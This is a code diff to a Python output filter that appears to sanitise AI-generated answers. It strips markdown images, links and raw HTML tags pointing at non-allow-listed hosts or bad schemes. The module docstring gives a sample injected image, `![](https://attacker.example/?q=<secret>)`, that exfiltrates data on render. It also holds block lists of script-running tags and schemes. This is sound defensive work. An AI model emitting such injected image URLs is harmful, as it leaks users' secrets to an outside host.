@@ -1,9 +1,17 @@
-"""Output that a page renders: HTML escaping and markdown link/image neutralisation.
+"""Output that a page renders: HTML escaping, markdown image/link and raw-HTML neutralisation.
 
 A markdown image is fetched by the browser as soon as the answer renders, so an injected
-``![](https://attacker.example/?q=<secret>)`` sends data away without a click. Images (and, if
-asked, links) whose host is not on the allow-list lose their URL; on HTML routes the whole
-answer is escaped with markupsafe as well::
+``![](https://attacker.example/?q=<secret>)`` sends data away without a click. What a CommonMark
+renderer (markdown-it-py, with or without raw HTML) would turn into an image or another
+auto-loading element pointing outside ``output.link_allowlist`` loses its URL; links with
+``javascript:``, ``vbscript:``, ``data:`` or ``file:`` always go; with ``links = "all"``, links
+to other hosts too. The destination is read as the renderer reads it: after spaces, tabs and a
+line break, inside ``<…>``, with backslash escapes and HTML entities decoded
+(``https&#58;//…``), ``//host`` and ``\\\\host`` count as hosts. Reference definitions
+(``[r]: https://…``) count as images. Without HTML escaping, a raw tag (``<img src=…>``,
+``<IMG SRC=…>``, ``<video poster=…>``, ``<link href=…>``…) whose attributes load from another
+host, run script (``on…=``, ``srcdoc``), or that is a ``<script>``/``<style>``/``<iframe>``…, is
+broken (its ``<`` becomes ``&lt;``); on HTML routes the whole answer is escaped with markupsafe::
 
     >>> f = HtmlFilter(allow=("docs.example.com",), escape_html=True)
     >>> f.feed("<b>hi</b> ![x](https://evil.test/a?q=1) [d](https://docs.example.com/p)") + f.flush()
@@ -12,6 +20,7 @@ answer is escaped with markupsafe as well::
 
 from __future__ import annotations
 
+import html as _html
 import re
 from collections.abc import Callable, Iterable
 
@@ -19,27 +28,44 @@ import regex
 from markupsafe import escape
 
 from ..context import Finding
-from ._rewriter import Rewriter, Trigger
+from ._rewriter import Rewriter, Trigger, max_width
 
-__all__ = ["HtmlFilter", "host_allowed"]
+__all__ = ["HtmlFilter", "host_allowed", "outside"]
 
-# The URL part of a markdown image or link, "](https://host", or of a reference definition,
-# "]: https://host", up to the end of the host; what is before it (the label) is already
-# released and the rest of the URL is dropped when neutralised. "//host" counts; relative URLs
-# (no host) stay, they point at the app itself; javascript:/data:/vbscript: never stay.
-_SOURCE = (
-    r"\](?:(?P<paren>\()|(?P<ref>:))[ ]{0,3}<?(?:(?P<scheme>[A-Za-z][A-Za-z0-9+.-]{0,15}):)?"
-    r"(?://(?P<host>[^/\s?#)>]{0,96}))?"
+_DEST = 100
+# "](" or "]:", optional blanks and one line break, "<", then the head of the destination.
+_LINK = (
+    r"\](?:(?P<paren>\()|(?P<ref>:))[ \t]{0,4}(?:\r?\n[ \t]{0,4})?(?P<angle><)?"
+    rf"(?P<dest>[^\s<>()]{{0,{_DEST}}})"
 )
-_FAST = re.compile(_SOURCE)
-_PARTIAL = regex.compile(_SOURCE, regex.V0)
-_WIDTH = 2 + 3 + 1 + 17 + 2 + 96 + 1  # a decision reads the char after the host, too
-_LEFT = 64
-_IMAGE_START = re.compile(r"!\[[^\[\]\n]*\Z")
-_REF_START = re.compile(r"(?:\A|\n)[ ]{0,3}\[[^\[\]\n]+\Z")
-_TRIGGER = Trigger(re.compile(r"\]"), 0, "]")
-_URL_REST = re.compile(r"[^\s)]*")
-_BAD_SCHEMES = ("javascript", "data", "vbscript", "file")
+# A raw tag's start or an autolink: "<name" and up to 100 characters of attributes.
+_TAG = (
+    r"<(?:(?P<auto>[A-Za-z][A-Za-z0-9+.\-]{1,31}):(?P<target>[^\s<>]{0,80})"
+    r"|(?P<tag>[A-Za-z][A-Za-z0-9\-]{0,15})(?P<attrs>[^<>]{0,100})(?P<close>>)?)"
+)
+_BOTH = f"{_LINK}|{_TAG}"
+_WIDTH = max_width(_BOTH) + 1  # a decision reads the character after the head, too
+_LEFT = 512  # how far back an image's "![" is looked for
+_BLANK = re.compile(r"\n[ \t]*\r?\n")
+# The rest of a removed URL up to a blank (its closing parenthesis too): a run of one class, so
+# where it stops never depends on text still to come.
+_URL_REST = re.compile(r"[^\s<>]*")
+_ANGLE_REST = re.compile(r"[^>\n]*")
+_BAD_SCHEMES = ("javascript", "vbscript", "data", "file")
+_WEB = ("http", "https", "ftp", "ftps", "ws", "wss")
+_ESCAPED = re.compile(r"\\([!-/:-@\[-`{-~])")
+_CONTROL = re.compile(r"[\x00-\x20\x7f]+")
+_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
+_ATTR = re.compile(r"""([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"?|'([^']*)'?|([^\s"'=<>`]+)))?""")
+# Tags broken whatever their attributes: they run script, load what their content names, or embed pages.
+_LOADING_BY_NAME = frozenset(
+    {
+        *("script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "link"),
+        *("meta", "base", "portal", "xml", "svg", "math", "bgsound", "layer"),
+    }
+)
+_URLISH = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.\-]*:)?(?://|\\\\|/\\|\\/)[^\s\"'>]*|(?i:javascript|vbscript|data):")
+_CSS_LOAD = re.compile(r"url\s*\(|image-set\s*\(|image\s*\(|@import|expression\s*\(", re.I)
 
 
 def host_allowed(host: str, allow: Iterable[str]) -> bool:
@@ -48,9 +74,34 @@ def host_allowed(host: str, allow: Iterable[str]) -> bool:
     return any(host == a or host.endswith("." + a) for a in (x.lower() for x in allow))
 
 
+def outside(url: str, allow: Iterable[str], strict: bool, complete: bool = True) -> str | None:
+    """Why ``url`` (as written in markdown or an attribute) must go, or None: ``"javascript"``…
+    for a bad scheme, the host when it is not allowed. ``strict`` (images, attributes): any
+    scheme but web ones and relative URLs goes too. ``complete=False``: ``url`` is only the head
+    of a longer destination; what cannot be decided from it goes (``"truncated"``)."""
+    d = _CONTROL.sub("", _ESCAPED.sub(r"\1", _html.unescape(url)))
+    m = _SCHEME.match(d)
+    scheme = m.group(1).lower() if m else ""
+    if scheme in _BAD_SCHEMES:
+        return scheme
+    rest = d[m.end() :] if m else d
+    if rest[:2] in ("//", "\\\\", "/\\", "\\/") or (scheme in _WEB and rest):
+        parts = re.split(r"[/\\?#]", rest.lstrip("/\\"), maxsplit=1)
+        host = parts[0]
+        if not complete and len(parts) == 1:
+            return "truncated"  # the host may go on past the head
+        return None if host and host_allowed(host, allow) else (host or scheme or "//")
+    if scheme and strict and scheme not in _WEB:
+        return scheme
+    if not complete and not m and ("&" in url or "\\" in url):
+        return "truncated"  # an encoded scheme may not be decoded yet
+    return None
+
+
 class HtmlFilter(Rewriter):
     """Neutralise markdown images (``links="images"``) or images and links (``"all"``) to
-    hosts outside ``allow``; escape HTML when ``escape_html``. ``on_find`` hears each removal."""
+    hosts outside ``allow``, bad-scheme links always, raw auto-loading HTML when not escaping;
+    escape HTML when ``escape_html``. ``on_find`` hears each removal."""
 
     __slots__ = ("_allow", "_escape", "_links", "_on_find", "_where")
 
@@ -62,7 +113,10 @@ class HtmlFilter(Rewriter):
         on_find: Callable[[Finding], None] | None = None,
         where: str = "",
     ) -> None:
-        super().__init__(_FAST, _PARTIAL, _WIDTH, _LEFT + 1, _TRIGGER)
+        lanes = [Trigger(re.compile(r"\]"), 0, "]", 0, re.compile(_LINK))]
+        if not escape_html:
+            lanes.append(Trigger(re.compile(r"<"), 0, "<", 0, re.compile(_TAG)))
+        super().__init__(re.compile(_BOTH), regex.compile(_BOTH, regex.V0), _WIDTH, _LEFT + 1, lanes)
         self._allow = tuple(allow)
         self._escape = escape_html
         self._links = links
@@ -78,21 +132,107 @@ class HtmlFilter(Rewriter):
         return str(escape(out)) if self._escape and out else out
 
     def decide(self, text: str, m: re.Match[str]) -> tuple[int, str] | None:
+        if "tag" in m.re.groupindex and (m.group("tag") is not None or m.group("auto") is not None):
+            return self._tag(text, m)
         s = m.start()
+        dest = m.group("dest")
+        end = m.end()
+        # blanks the pattern does not take before the URL: CommonMark allows any number
+        blanks = not dest and end < len(text) and text[end] in " \t\r\n"
         if m.group("ref") is not None:
-            if not _REF_START.search(text, max(0, s - _LEFT), s):
-                return None
-            kind = "markdown_link"
+            kind, strict = "markdown_link", True
         else:
-            image = _IMAGE_START.search(text, max(0, s - _LEFT), s) is not None
-            if not image and self._links != "all":
-                return None
-            kind = "markdown_image" if image else "markdown_link"
-        scheme = (m.group("scheme") or "").lower()
-        host = m.group("host")
-        if scheme not in _BAD_SCHEMES and (host is None or host_allowed(host, self._allow)):
+            strict = _image_open(text, s)
+            kind = "markdown_image" if strict else "markdown_link"
+        why = "blanks" if blanks else outside(dest, self._allow, strict or self._links == "all", len(dest) < _DEST)
+        if why is None:
             return None
+        if not strict and self._links != "all" and why not in (*_BAD_SCHEMES, "blanks", "truncated"):
+            return None  # a link to another host, kept with links = "images"
+        self._found(kind, s, end, why)
+        self.swallow(_ANGLE_REST if m.group("angle") else _URL_REST, ">" if m.group("angle") else ")")
+        return end, "] (link removed)" if m.group("paren") else "]: (link removed)"
+
+    def _tag(self, text: str, m: re.Match[str]) -> tuple[int, str] | None:
+        s = m.start()
+        if m.group("auto") is not None:  # an autolink <scheme:…>: a link
+            scheme = m.group("auto").lower()
+            url = f"{scheme}:{m.group('target')}"
+            if scheme not in _BAD_SCHEMES and (self._links != "all" or outside(url, self._allow, False) is None):
+                return None
+            self._found("html_link", s, m.end(), scheme)
+            return s + 1, "&lt;"
+        name = m.group("tag").lower()
+        attrs = m.group("attrs")
+        why = name if name in _LOADING_BY_NAME else None
+        if why is None and m.group("close") is None and attrs and not attrs.isspace():
+            why = "truncated"  # attributes run on past what a decision reads
+        if why is None:
+            why = self._bad_attribute(name, attrs)
+        if why is None:
+            return None
+        self._found("html_tag", s, m.end(), why)
+        return s + 1, "&lt;"
+
+    def _bad_attribute(self, tag: str, attrs: str) -> str | None:
+        # First anything URL-shaped anywhere in the tag, however the attributes parse (a browser
+        # and this parser may split odd ones differently): a host outside the list, a bad scheme.
+        flat = _CONTROL.sub("", _ESCAPED.sub(r"\1", _html.unescape(attrs)))
+        link = tag == "a" and self._links != "all"
+        for u in _URLISH.finditer(flat):
+            why = outside(u.group(), self._allow, False)
+            if why is not None and (not link or why in _BAD_SCHEMES):
+                return why
+        for am in _ATTR.finditer(attrs):
+            name = am.group(1).lower()
+            value = am.group(2) or am.group(3) or am.group(4) or ""
+            if name.startswith("on") or name in ("srcdoc", "formaction", "action"):
+                return name
+            decoded = _html.unescape(value)
+            if name == "style" and _CSS_LOAD.search(decoded):
+                return name
+            if not value:
+                continue
+            link = tag == "a" and name == "href"
+            pieces = decoded.split(",") if name in ("srcset", "imagesrcset") else [decoded]
+            for piece in pieces:
+                why = outside(piece.strip().split(" ", 1)[0], self._allow, not link)
+                if why is not None and (not link or self._links == "all" or why in _BAD_SCHEMES):
+                    return why
+        return None
+
+    def _found(self, kind: str, start: int, end: int, detail: str) -> None:
         if self._on_find is not None:
-            self._on_find(Finding(kind, self.absolute(s), self.absolute(m.end()), host or scheme, 1.0, self._where))
-        self.swallow(_URL_REST, ")" if m.group("paren") else "")
-        return m.end(), "] (link removed)" if m.group("paren") else "]: (link removed)"
+            self._on_find(Finding(kind, self.absolute(start), self.absolute(end), detail, 1.0, self._where))
+
+
+_BRACKETS = re.compile(r"\\?(?:!?\[|\]\()")
+
+
+def _image_open(text: str, s: int) -> bool:
+    """Whether the ``](`` at ``s`` may close a markdown image: a ``![`` before it in the same
+    paragraph (no blank line between) still open once the brackets between are paired (each
+    ``](`` closes the latest opener; escaped ones are text). Over-counting is safe (a link is
+    then treated as an image), so past 32 brackets the answer is yes; the alt text may hold
+    brackets, escapes and line breaks."""
+    lo = max(0, s - _LEFT)
+    i = text.rfind("![", lo, s)
+    if i == -1:
+        return False
+    for blank in _BLANK.finditer(text, i, s):  # a blank line after the "![": a new paragraph
+        lo = blank.end()
+    if text.rfind("![", lo, s) == -1:
+        return False
+    stack: list[bool] = []
+    for n, b in enumerate(_BRACKETS.finditer(text, lo, s)):
+        if n > 32:
+            return True
+        tok = b.group()
+        if tok[0] == "\\":
+            continue
+        if tok == "](":
+            if stack:
+                stack.pop()
+        else:
+            stack.append(tok == "![")
+    return any(stack)
